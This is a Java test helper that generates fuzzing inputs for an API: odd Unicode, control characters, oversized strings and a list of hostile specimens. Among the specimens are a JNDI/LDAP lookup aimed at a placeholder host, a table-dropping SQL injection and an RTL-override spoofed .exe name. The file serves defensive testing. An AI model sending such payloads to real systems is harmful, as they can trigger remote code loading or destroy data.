package com.callbackcloser.api.hostile;

import static com.callbackcloser.api.testing.Gen.weight;

import com.callbackcloser.api.testing.Gen;
import java.util.List;

/**
 * Text a fuzzer, a broken carrier or an attacker might send: every plane of Unicode (never a lone surrogate,
 * which no UTF-8 encoder can send), C0 and C1 controls and NUL, bidi overrides, noncharacters, emoji, RTL
 * scripts, markup, and lengths from empty to tens of thousands of characters.
 */
final class HostileText {
    /** Strings that have broken parsers, XML writers, databases or keyword matchers somewhere. */
    static final List<String> SPECIMENS = List.of(
            "",
            " ",
            "\u0000",
            "a\u0000b",
            "\t\r\n",
            "\u001b[31mred",
            "\u007f\u0085\u009f",
            "\u2028\u2029",
            "\ufeff",
            "\ufffe\uffff",
            "\u202egnp.exe",
            "\u200b",
            "<Response><Say>hi</Say></Response>",
            "]]><![CDATA[",
            "<?xml version=\"1.0\"?>",
            "&amp;&lt;&#0;&#x1;",
            "\"'\\",
            "${jndi:ldap://example.test/a}",
            "'; DROP TABLE leads; --",
            "%00",
            "%zz",
            "+",
            "=",
            "&",
            "null",
            "undefined",
            "-1",
            "2147483648",
            "9223372036854775808",
            "1e400",
            "NaN",
            "👨‍👩‍👧‍👦",
            "🔧🚿💧",
            "مرحبا بالعالم",
            "שלום עולם",
            "١٢٣",
            "１",
            "Ｚ̸̢̛͔a̴l̶g̵o̸",
            "\ud83d\ude00".repeat(400),
            // An odd offset, so that cutting it to an even length splits a surrogate pair.
            "a" + "\ud83d\udd27".repeat(150));

    /** A to Z, a to z, 0 to 9. */
    static final Gen<Character> ALPHANUMERIC =
            Gen.charsOf("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789");

    private HostileText() {}

    /** Any text, weighted towards the short and the strange. */
    static Gen<String> strings() {
        return Gen.frequency(
                weight(3, text(0, 30)),
                weight(2, Gen.of(SPECIMENS)),
                weight(2, Gen.strings(ALPHANUMERIC, 0, 40)),
                weight(1, text(200, 2_000)),
                weight(1, text(5_000, 12_000)));
    }

    /** Strings of code points between the lengths given, from every range that tends to break things. */
    static Gen<String> text(int minLength, int maxLength) {
        Gen<Integer> codePoints = codePoints();
        return random -> {
            int length = Gen.size(random, minLength, maxLength);
            StringBuilder text = new StringBuilder(length);
            for (int i = 0; i < length; i++) {
                text.appendCodePoint(codePoints.next(random));
            }
            return text.toString();
        };
    }

    /** High-entropy printable ASCII, which no compression shrinks: for values that end up in an index. */
    static Gen<String> incompressible(int minLength, int maxLength) {
        return Gen.strings(ALPHANUMERIC, minLength, maxLength);
    }

    static Gen<Integer> codePoints() {
        return Gen.frequency(
                weight(6, Gen.ints(0x20, 0x7e)),
                // NUL has its own specimens: everywhere, it would drown every other case in the same refusal.
                weight(2, Gen.ints(0x01, 0x1f)),
                weight(1, Gen.of(0x7f, 0x80, 0x85, 0x9f, 0xa0, 0xad)),
                weight(2, Gen.ints(0xa1, 0x07ff)),
                weight(1, Gen.ints(0x0590, 0x06ff)),
                weight(1, Gen.of(0x200b, 0x200d, 0x200e, 0x200f, 0x202a, 0x202e, 0x2066, 0x2069, 0x2028)),
                // Never a lone surrogate: no UTF-8 encoder can send one (the pure properties add them).
                weight(1, Gen.ints(0x0800, 0xd7ff)),
                weight(1, Gen.ints(0xe000, 0xffff)),
                weight(2, Gen.ints(0x1f300, 0x1faff)),
                weight(1, Gen.ints(0x10000, 0x10ffff)));
    }
}
